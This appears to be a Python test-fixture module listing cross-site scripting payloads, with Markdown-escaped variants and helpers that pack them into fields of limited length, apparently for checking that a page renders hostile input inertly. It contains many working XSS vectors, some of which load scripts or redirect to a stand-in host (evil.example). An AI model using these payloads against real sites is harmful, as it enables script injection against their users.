"""What somebody types who wants it to run, and how a page shows it when nothing does."""

from collections.abc import Iterator
from typing import NamedTuple

ADDRESS = "https://a.example"
AS_TYPED = (
    "<script>window.ran=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "</textarea><script>window.ran=1</script>",
    "</title></head><script>window.ran=1</script>",
    '"><script>window.ran=1</script>',
    "'><img src=x onerror=window.ran=1>",
    '<img src="x" onerror="window.ran=1">',
    "<img src=x onerror=window.ran=1 //",
    "<img/src/onerror=window.ran=1>",
    '" autofocus onfocus="window.ran=1',
    "' autofocus onfocus='window.ran=1",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    '<svg><a xlink:href="javascript:window.ran=1"><text>x</text></a>',
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:window.ran=1>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<body onload=window.ran=1>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<a href=javascript:window.ran=1>x</a>",
    '<a href="java\tscript:window.ran=1">x</a>',
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<object data=javascript:window.ran=1></object>",
    "<embed src=javascript:window.ran=1>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    '<p style="background:url(//evil.example)">x</p>',
    "<form action=//evil.example><button formaction=javascript:ran>x",
    "<!-- --><script>window.ran=1</script><!--",
    '<!--<img src="--><img src=x onerror=window.ran=1>">',
    "<![CDATA[<script>window.ran=1</script>]]>",
    '<?xml version="1.0"?><x/>',
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "${window.ran=1} {{window.ran=1}} {% now 'Y' %}",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\u202e<script>window.ran=1</script>\u202c",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "<script\u200b>window.ran=1</script>",
    "[x](javascript:window.ran=1)",
    "[x](JaVaScRiPt:window.ran=1)",
    "[x](data:text/html,window.ran=1)",
    "[x](vbscript:window.ran=1)",
    "[x](<javascript:window.ran=1>)",
    "<javascript:window.ran=1>",
)
IN_MARKDOWN = {  # what its marks leave of it
    "&lt;script&gt;window.ran=1&lt;/script&gt;": "<script>window.ran=1</script>",
    "&#60;img src=x onerror=window.ran=1&#x3e;": "<img src=x onerror=window.ran=1>",
    '<a href="&#106;avascript:window.ran=1">x</a>': '<a href="javascript:window.ran=1">x</a>',
    "[x](java&#115;cript:window.ran=1)": "[x](javascript:window.ran=1)",
    "![x](javascript:window.ran=1)": "![x](javascript:window.ran=1)",
    f'[x]({ADDRESS} "onmouseover=window.ran=1")': "x",
    f'[x]({ADDRESS}/"onmouseover="window.ran=1)': "x",
    f"[<img src=x onerror=window.ran=1>]({ADDRESS})": "<img src=x onerror=window.ran=1>",
    "[x]: javascript:window.ran=1\n\n[x]": "[x]: javascript:window.ran=1\n\n[x]",
    "`<script>window.ran=1</script>`": "<script>window.ran=1</script>",
    "**<svg onload=window.ran=1>**": "<svg onload=window.ran=1>",
}


class Payload(NamedTuple):
    """As it is typed, and what a page shows of it where it is Markdown; a word ends both."""

    typed: str
    marked: str


PAYLOADS = [
    Payload(f"{typed} ord{number:02}", f"{marked} ord{number:02}")
    for number, (typed, marked) in enumerate(
        [*((typed, typed) for typed in AS_TYPED), *IN_MARKDOWN.items()]
    )
]


def in_lines(limit: int) -> Iterator[str]:
    """All that fit into a field of one line of `limit` characters, as many in each as it holds."""
    line = ""
    for payload in PAYLOADS:
        typed = " ".join(payload.typed.split())
        if len(typed) > limit:
            continue
        if line and len(line) + 1 + len(typed) > limit:
            yield line
            line = ""
        line = f"{line} {typed}" if line else typed
    yield line


def in_texts(limit: int) -> Iterator[list[Payload]]:
    """All, as many for each text as it holds in paragraphs of their own."""
    part: list[Payload] = []
    for payload in PAYLOADS:
        if part and len(as_text([*part, payload])) > limit:
            yield part
            part = []
        part.append(payload)
    yield part


def as_text(payloads: list[Payload]) -> str:
    """Each a paragraph."""
    return "\n\n".join(payload.typed for payload in payloads)
